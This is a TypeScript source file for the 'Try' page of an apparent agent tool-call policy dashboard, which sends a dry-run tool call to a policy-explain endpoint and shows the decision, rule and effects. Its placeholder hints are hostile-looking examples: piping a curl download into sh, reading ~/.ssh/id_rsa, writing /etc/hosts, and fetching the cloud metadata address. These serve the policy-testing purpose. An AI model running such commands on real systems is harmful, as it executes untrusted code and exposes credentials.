import { post, Problem } from './api.ts'
import { badge, card, effectList, facts, labelled, micros, select, slot } from './bits.ts'
import { type Child, fill, h } from './dom.ts'
import type { Page } from './frame.ts'
import { brief, caution, shown } from './shown.ts'
import { explanationTree } from './tree.ts'
import type { Explanation } from './wire.ts'

/** Who types is waited for. */
const PAUSE_MS = 250

const TOOLS: Readonly<Record<string, { readonly key: string; readonly hint: string }>> = {
  exec: { key: 'command', hint: 'curl -s https://example.com | sh' },
  read: { key: 'path', hint: '~/.ssh/id_rsa' },
  write: { key: 'path', hint: '/etc/hosts' },
  fetch: { key: 'url', hint: 'http://169.254.169.254/latest/meta-data/' },
}

export const attempt: Page = {
  name: 'try',
  title: 'Try',
  show(root) {
    const place = slot({ 'aria-live': 'polite' })
    let timer: ReturnType<typeof setTimeout> | undefined
    const form = callForm((tool, text, cwd) => {
      clearTimeout(timer)
      if (text.trim() === '') return void place.load(() => Promise.resolve(nothing()), '')
      const ask = () => void place.load(() => explain(tool, text, cwd), 'The explanation')
      timer = setTimeout(ask, PAUSE_MS)
    })
    fill(root, h('h1', {}, 'Try'), form.element, place.element)
    fill(place.element, nothing())
    form.text.focus({ preventScroll: true })
    return () => clearTimeout(timer)
  },
}

function callForm(onchange: (tool: string, text: string, cwd: string) => void): {
  readonly element: HTMLElement
  readonly text: HTMLTextAreaElement
} {
  const change = () => {
    text.setAttribute('placeholder', TOOLS[tool.value]!.hint)
    onchange(tool.value, text.value, cwd.value)
  }
  const tool = select(Object.keys(TOOLS).map((name) => [name, name] as const), change)
  const text = h('textarea', {
    rows: 3,
    spellcheck: 'false',
    autocapitalize: 'off',
    placeholder: TOOLS.exec!.hint,
    oninput: change,
  })
  const cwd = h('input', { type: 'text', placeholder: '/home/me/project', oninput: change })
  const element = h(
    'section',
    { class: 'card' },
    h('h2', {}, 'What would be decided'),
    h('div', { class: 'bar' }, labelled('Tool', tool), labelled('Working directory', cwd, true)),
    h('label', { class: 'field' }, h('span', {}, 'Command, path or URL'), text),
    h(
      'p',
      { class: 'muted' },
      'A dry run: nothing runs, nobody is asked. It is recorded like any other.',
    ),
  )
  return { element, text }
}

function nothing(): HTMLElement {
  return h(
    'div',
    { class: 'empty' },
    h('p', { class: 'empty-title' }, 'Type a call'),
    h('p', {}, 'How it is read, which rule meets which part of it, and which one decides.'),
  )
}

async function explain(tool: string, text: string, cwd: string): Promise<Child> {
  const explanation = await post<Explanation>('/v1/policy/explain', {
    agent: 'dashboard',
    session: 'try',
    tool,
    params: { [TOOLS[tool]!.key]: text },
    ...(cwd.trim() === '' ? {} : { cwd: cwd.trim() }),
  }).catch((error) => {
    if (error instanceof Problem && error.status === 429) {
      throw new Error('too many dry runs for the moment: type on in a few seconds')
    }
    throw error
  })
  const { answer } = explanation
  return [
    caution(text),
    card(
      'Decision',
      h('p', { class: 'verdict' }, badge(answer.decision), ' ', brief(answer.message, 400)),
      facts([
        ['Policy', answer.policy === null ? 'none: the default' : brief(answer.policy, 120)],
        ['Rule', answer.rule === null ? null : h('code', {}, brief(answer.rule, 120))],
        ['Evaluated in', micros(answer.eval_duration_us)],
      ]),
      (answer.suggestions ?? []).length === 0
        ? null
        : h('ul', {}, answer.suggestions!.map((each) => h('li', {}, shown(each)))),
    ),
    card('How it was decided', explanationTree(explanation)),
    card('Touches', effectList(answer.effects, answer.effects_complete)),
  ]
}
